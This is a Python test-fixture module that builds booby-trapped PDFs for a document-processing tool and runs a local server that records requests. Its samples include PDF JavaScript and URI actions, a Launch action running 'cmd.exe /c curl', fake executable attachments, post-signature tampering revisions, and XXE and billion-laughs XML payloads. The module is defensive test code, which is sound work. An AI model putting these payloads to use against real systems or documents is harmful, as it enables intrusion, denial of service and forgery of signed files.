"""Booby-trapped PDFs: active content (JavaScript, launch, links out, attachments, multimedia)
and hostile XMP metadata, plus a local HTTP server that records every request made to it.

Every address inside these PDFs points at the server: a test that finishes with no hit proves
nothing kyso did (verify, OCR, archive, sign) ran a script or followed a link.
"""

from __future__ import annotations

import io
import multiprocessing
import os
import resource
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from multiprocessing.connection import Connection

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from common.errors import KysoError

N = pikepdf.Name
#: what ``active_pdf`` can put in, each found by kyso as one finding code
KINDS = ("javascript", "launch", "links", "embedded", "multimedia")
CODES = {
    "javascript": "active_javascript",
    "launch": "active_launch",
    "links": "active_links",
    "embedded": "active_embedded_files",
    "multimedia": "active_multimedia",
}


@dataclass
class HitServer:
    url: str
    hits: list[str] = field(default_factory=list)


@contextmanager
def hit_server() -> Iterator[HitServer]:
    """An HTTP server on 127.0.0.1 that answers 200 to anything and records the request line."""
    server_state = HitServer("")

    class Handler(BaseHTTPRequestHandler):
        def _hit(self) -> None:
            server_state.hits.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_POST = do_PUT = do_HEAD = _hit

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server_state.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server_state
    finally:
        server.shutdown()
        server.server_close()


def _save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    # fix_metadata_version=False: pikepdf would otherwise re-serialise (and defuse) the XMP
    pdf.save(out, fix_metadata_version=False)
    return out.getvalue()


def _js(pdf: pikepdf.Pdf, code: str) -> pikepdf.Object:
    return pdf.make_indirect(pikepdf.Dictionary(S=N.JavaScript, JS=pikepdf.String(code)))


def _url_spec(url: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=N.Filespec, FS=N.URL, F=pikepdf.String(url))


def _embedded_spec(pdf: pikepdf.Pdf, name: str, body: bytes) -> pikepdf.Object:
    stream = pdf.make_stream(body)
    stream.Type = N.EmbeddedFile
    return pdf.make_indirect(
        pikepdf.Dictionary(
            Type=N.Filespec,
            F=pikepdf.String(name),
            UF=pikepdf.String(name),
            EF=pikepdf.Dictionary(F=stream),
        )
    )


def _link(action: pikepdf.Object, y: int) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        Type=N.Annot, Subtype=N.Link, Rect=[72, y, 300, y + 14], Border=[0, 0, 0], A=action
    )


def _names(pdf: pikepdf.Pdf) -> pikepdf.Object:
    if "/Names" not in pdf.Root:
        pdf.Root.Names = pdf.make_indirect(pikepdf.Dictionary())
    return pdf.Root.Names


def active_pdf(base: bytes, url: str, kinds: tuple[str, ...] = KINDS) -> bytes:
    """``base`` with the chosen kinds of active content, every address on ``url``."""
    pdf = pikepdf.open(io.BytesIO(base))
    page = pdf.pages[0].obj
    annots = list(page.get("/Annots", pikepdf.Array()))
    if "javascript" in kinds:
        opening = _js(pdf, f'app.launchURL("{url}/js-open", true); this.submitForm("{url}/js");')
        opening.Next = [_js(pdf, f'this.getURL("{url}/js-next");')]
        pdf.Root.OpenAction = opening
        pdf.Root.AA = pikepdf.Dictionary(WC=_js(pdf, f'this.getURL("{url}/js-close");'))
        tree = pikepdf.Dictionary(Names=["khoi-dong", _js(pdf, f'app.launchURL("{url}/js-name")')])
        _names(pdf).JavaScript = pdf.make_indirect(tree)
        field_ = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=N.Annot, Subtype=N.Widget, FT=N.Tx, T=pikepdf.String("ghi_chu"),
                Rect=[72, 500, 300, 520], P=page,
                AA=pikepdf.Dictionary(F=_js(pdf, f'this.getURL("{url}/js-field");')),
            )
        )  # fmt: skip
        annots.append(field_)
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field_])
    if "launch" in kinds:
        launch = pikepdf.Dictionary(
            S=N.Launch,
            F=_url_spec(f"{url}/launch.exe"),
            Win=pikepdf.Dictionary(
                F=pikepdf.String("cmd.exe"), P=pikepdf.String(f"/c curl {url}/launch-win")
            ),
            NewWindow=True,
        )
        annots.append(_link(pdf.make_indirect(launch), 700))
    if "links" in kinds:
        page.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=N.URI, URI=f"{url}/page-open"))
        chained = pikepdf.Dictionary(S=N.URI, URI=pikepdf.String(f"{url}/link-next"))
        link = pikepdf.Dictionary(S=N.URI, URI=pikepdf.String(f"{url}/link"), Next=chained)
        annots.append(_link(link, 680))
        remote = pikepdf.Dictionary(S=N.GoToR, F=_url_spec(f"{url}/remote.pdf"), D=[0, N.Fit])
        annots.append(_link(remote, 660))
        submit = pikepdf.Dictionary(S=N.SubmitForm, F=_url_spec(f"{url}/submit"), Flags=4)
        annots.append(_link(submit, 640))
        imported = pikepdf.Dictionary(S=N.ImportData, F=_url_spec(f"{url}/import.fdf"))
        annots.append(_link(imported, 620))
    if "embedded" in kinds:
        tree = pikepdf.Dictionary(
            Names=["hoa-don.xml", _embedded_spec(pdf, "hoa-don.xml", b"<HoaDon so='1'/>")]
        )
        _names(pdf).EmbeddedFiles = pdf.make_indirect(tree)
        for y, spec in (
            (580, _embedded_spec(pdf, "chuong-trinh.exe", b"MZ\x90\x00 not really a program")),
            (560, pdf.make_indirect(_url_spec(f"{url}/remote-attachment.exe"))),
        ):
            annots.append(
                pikepdf.Dictionary(
                    Type=N.Annot, Subtype=N.FileAttachment, Rect=[400, y, 414, y + 14], FS=spec,
                    Name=N.PushPin, Contents=pikepdf.String("tep dinh kem"),
                )
            )  # fmt: skip
    if "multimedia" in kinds:
        asset = _url_spec(f"{url}/clip.swf")
        content = pikepdf.Dictionary(
            Assets=pikepdf.Dictionary(Names=["clip.swf", asset]),
            Configurations=[
                pikepdf.Dictionary(
                    Type=N.RichMediaConfiguration, Subtype=N.Flash,
                    Instances=[pikepdf.Dictionary(Type=N.RichMediaInstance, Subtype=N.Flash,
                                                  Asset=asset)],
                )
            ],
        )  # fmt: skip
        settings = pikepdf.Dictionary(Activation=pikepdf.Dictionary(Condition=N.PO))
        annots.append(
            pikepdf.Dictionary(
                Type=N.Annot, Subtype=N.RichMedia, Rect=[72, 300, 372, 450],
                RichMediaContent=content, RichMediaSettings=settings,
            )
        )  # fmt: skip
    # annotations are indirect objects (ISO 32000-1 §12.5.2), as any PDF writer makes them
    indirect = [a if a.is_indirect else pdf.make_indirect(a) for a in annots]
    page.Annots = pdf.make_indirect(pikepdf.Array(indirect))
    return _save(pdf)


# -- incremental updates after signing (what an attacker appends to a signed file)

_name = generic.NameObject


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _js_action(code: str) -> generic.DictionaryObject:
    return generic.DictionaryObject(
        {_name("/S"): _name("/JavaScript"), _name("/JS"): generic.TextStringObject(code)}
    )


def _first_page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    assert isinstance(page, generic.DictionaryObject)
    return page


def _add_annotation(writer: IncrementalPdfFileWriter, annot: generic.DictionaryObject) -> None:
    page = _first_page(writer)
    annots = page.get("/Annots")
    array = annots.get_object() if annots is not None else generic.ArrayObject()
    array.append(writer.add_object(annot))
    if annots is not None and isinstance(page.raw_get("/Annots"), generic.IndirectObject):
        writer.mark_update(page.raw_get("/Annots"))
    else:
        page["/Annots"] = array
        writer.update_container(page)


def _rect(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(v) for v in values])


def add_open_action_js(signed: bytes, url: str) -> bytes:
    """A later revision whose catalog runs JavaScript when the document opens."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    action = _js_action(f'app.launchURL("{url}/added-js", true);')
    writer.root[_name("/OpenAction")] = writer.add_object(action)
    writer.update_root()
    return _write(writer)


def add_javascript_link(signed: bytes, url: str) -> bytes:
    """A later revision adding only an annotation (allowed for comments) that runs a script."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    annot = generic.DictionaryObject(
        {
            _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Link"),
            _name("/Rect"): _rect(72, 100, 300, 114),
            _name("/A"): writer.add_object(_js_action(f'this.getURL("{url}/added-link")')),
        }
    )  # fmt: skip
    _add_annotation(writer, annot)
    return _write(writer)


def add_file_attachment(signed: bytes) -> bytes:
    """A later revision adding a file attachment annotation (a program) to the signed page."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    payload = writer.add_object(
        generic.StreamObject(
            {_name("/Type"): _name("/EmbeddedFile")}, stream_data=b"MZ\x90\x00 added later"
        )
    )
    spec = generic.DictionaryObject(
        {
            _name("/Type"): _name("/Filespec"),
            _name("/F"): generic.TextStringObject("hoa-don-moi.exe"),
            _name("/EF"): generic.DictionaryObject({_name("/F"): payload}),
        }
    )
    annot = generic.DictionaryObject(
        {
            _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/FileAttachment"),
            _name("/Rect"): _rect(400, 100, 414, 114), _name("/FS"): writer.add_object(spec),
        }
    )  # fmt: skip
    _add_annotation(writer, annot)
    return _write(writer)


def with_names_dictionary(base: bytes) -> bytes:
    """``base`` with an (indirect, empty-ish) /Names dictionary, as many real documents have."""
    pdf = pikepdf.open(io.BytesIO(base))
    _names(pdf).Dests = pdf.make_indirect(pikepdf.Dictionary(Names=[]))
    return _save(pdf)


def add_embedded_file_to_names(signed: bytes) -> bytes:
    """A later revision that only rewrites the existing /Names object: an attachment appears."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    names_ref = writer.root.raw_get("/Names")
    assert isinstance(names_ref, generic.IndirectObject), "the signed file needs /Names"
    names = names_ref.get_object()
    payload = writer.add_object(generic.StreamObject(stream_data=b"<HoaDon so='9'/>"))
    spec = generic.DictionaryObject(
        {
            _name("/Type"): _name("/Filespec"),
            _name("/F"): generic.TextStringObject("hoa-don-sua.xml"),
            _name("/EF"): generic.DictionaryObject({_name("/F"): payload}),
        }
    )
    tree = generic.DictionaryObject(
        {
            _name("/Names"): generic.ArrayObject(
                [generic.TextStringObject("hoa-don-sua.xml"), writer.add_object(spec)]
            )
        }
    )
    names[_name("/EmbeddedFiles")] = writer.add_object(tree)
    writer.mark_update(names_ref)
    return _write(writer)


def replace_metadata(signed: bytes, xml: bytes) -> bytes:
    """A later revision whose catalog points at a new XMP metadata stream ``xml``."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    stream = generic.StreamObject(
        {_name("/Type"): _name("/Metadata"), _name("/Subtype"): _name("/XML")}, stream_data=xml
    )
    writer.root[_name("/Metadata")] = writer.add_object(stream)
    writer.update_root()
    out = io.BytesIO()
    # pyHanko would parse (and rewrite) the XMP it just got: write the raw objects instead
    writer._update_meta = lambda: None  # type: ignore[method-assign]
    writer.write(out)
    return out.getvalue()


# -- XMP metadata

_XMP_OPEN = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/">'
    b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
)
_XMP_CLOSE = b"</rdf:Description></rdf:RDF></x:xmpmeta>"


def _title(text: bytes) -> bytes:
    return (
        b'<dc:title><rdf:Alt><rdf:li xml:lang="x-default">'
        + text
        + b"</rdf:li></rdf:Alt></dc:title>"
    )


def billion_laughs() -> bytes:
    entities = [b'<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        entities.append(b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10))
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE x:xmpmeta [\n'
        + b"\n".join(entities)
        + b"\n]>\n"
        + _XMP_OPEN
        + _title(b"&lol9;")
        + _XMP_CLOSE
    )


def external_entity(target: str) -> bytes:
    """XXE: a general entity, a parameter entity and an external DTD, all on ``target``."""
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE x:xmpmeta SYSTEM "%s" [\n'
        b'<!ENTITY xxe SYSTEM "%s">\n<!ENTITY %% remote SYSTEM "%s">\n%%remote;\n]>\n'
        % (target.encode(), target.encode(), target.encode())
        + _XMP_OPEN
        + _title(b"&xxe;")
        + _XMP_CLOSE
    )


def huge_xmp(megabytes: int = 50) -> bytes:
    """Well-formed XMP of ``megabytes``: many keywords (each a small element)."""
    item = b"<rdf:li>tu khoa luu tru</rdf:li>"
    count = megabytes * 1024 * 1024 // len(item)
    return (
        _XMP_OPEN
        + b"<dc:subject><rdf:Bag>"
        + item * count
        + b"</rdf:Bag></dc:subject>"
        + _XMP_CLOSE
    )


def with_xmp(base: bytes, xml: bytes, *, compress: bool = False) -> bytes:
    """``base`` whose catalog's /Metadata is ``xml`` (Flate-compressed when ``compress``)."""
    pdf = pikepdf.open(io.BytesIO(base))
    stream = pikepdf.Stream(pdf, b"")
    if compress:
        stream.write(zlib.compress(xml, 9), filter=N.FlateDecode)
    else:
        stream.write(xml)
    stream.Type = N.Metadata
    # qpdf writes a /Subtype /XML metadata stream decoded: name it so only after saving
    stream.Subtype = N.XMZ
    pdf.Root.Metadata = pdf.make_indirect(stream)
    out = io.BytesIO()
    pdf.save(
        out,
        fix_metadata_version=False,
        compress_streams=False,
        stream_decode_level=pikepdf.StreamDecodeLevel.none,
    )
    data = out.getvalue()
    assert data.count(b"/XMZ") == 1
    return data.replace(b"/XMZ", b"/XML")


# -- running hostile work under limits


@dataclass(frozen=True)
class Outcome:
    #: "ok", "error" (a KysoError: ``detail`` is its code), "memory", "timeout" or "crash"
    kind: str
    detail: str
    seconds: float


def _bounded_child(conn: Connection, work: Callable[[], object], memory_mb: int) -> None:
    with open("/proc/self/statm", encoding="ascii") as statm:
        mapped = int(statm.read().split()[0]) * os.sysconf("SC_PAGE_SIZE")
    budget = mapped + memory_mb * 1024 * 1024
    resource.setrlimit(resource.RLIMIT_AS, (budget, budget))
    started = time.monotonic()
    try:
        result = work()
        conn.send(("ok", repr(result)[:300], time.monotonic() - started))
    except KysoError as exc:
        conn.send(("error", exc.code, time.monotonic() - started))
    except MemoryError:
        conn.send(("memory", "", time.monotonic() - started))
    except BaseException as exc:
        conn.send(("crash", f"{type(exc).__name__}: {exc}"[:500], time.monotonic() - started))
    finally:
        conn.close()


def run_bounded(
    work: Callable[[], object], *, memory_mb: int = 768, seconds: float = 30
) -> Outcome:
    """``work()`` in a forked child allowed ``memory_mb`` more address space and ``seconds``."""
    context = multiprocessing.get_context("fork")
    receiver, sender = context.Pipe(duplex=False)
    process = context.Process(target=_bounded_child, args=(sender, work, memory_mb), daemon=True)
    started = time.monotonic()
    process.start()
    sender.close()
    try:
        if not receiver.poll(seconds):
            process.kill()
            return Outcome("timeout", "", time.monotonic() - started)
        try:
            kind, detail, took = receiver.recv()
        except EOFError:
            return Outcome("memory", f"exit {process.exitcode}", time.monotonic() - started)
    finally:
        process.join(timeout=5)
        receiver.close()
    return Outcome(kind, detail, took)


def hand_made_pdf(objects: list[bytes]) -> bytes:
    """A PDF written object by object (with its xref), for structures no library writes:
    object 1 is the catalog."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref, size = len(out), len(objects) + 1
    out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Root 1 0 R /Size {size} >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)
